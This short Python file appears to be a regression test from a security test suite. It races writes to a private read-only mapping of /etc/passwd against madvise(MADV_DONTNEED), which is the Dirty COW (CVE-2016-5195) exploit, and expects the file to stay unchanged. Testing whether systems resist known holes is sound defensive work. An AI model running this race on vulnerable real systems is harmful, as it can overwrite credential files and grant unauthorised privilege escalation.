# SPDX-License-Identifier: Apache-2.0
# family: known-holes
# tries: races writes to a private mapping against MADV_DONTNEED
# matters: CVE-2016-5195: the write reached the read-only file behind it
# expect: no effect
import ctypes
import mmap
import os
import threading
import time

from attempt import refused, syscall, through

path = "/etc/passwd"
with open(path, "rb") as file:
    before = file.read()
fd = os.open(path, os.O_RDONLY)
held = mmap.mmap(fd, len(before), flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
address = ctypes.addressof(ctypes.c_char.from_buffer(held)) & ~4095
end = time.monotonic() + 0.5


def drop():
    while time.monotonic() < end:
        syscall("madvise", address, 4096, 4)


thread = threading.Thread(target=drop)
thread.start()
while time.monotonic() < end:
    held[0:4] = b"evil"
thread.join()
with open(path, "rb") as file:
    if file.read() != before:
        through("the file has changed")
refused("no effect")
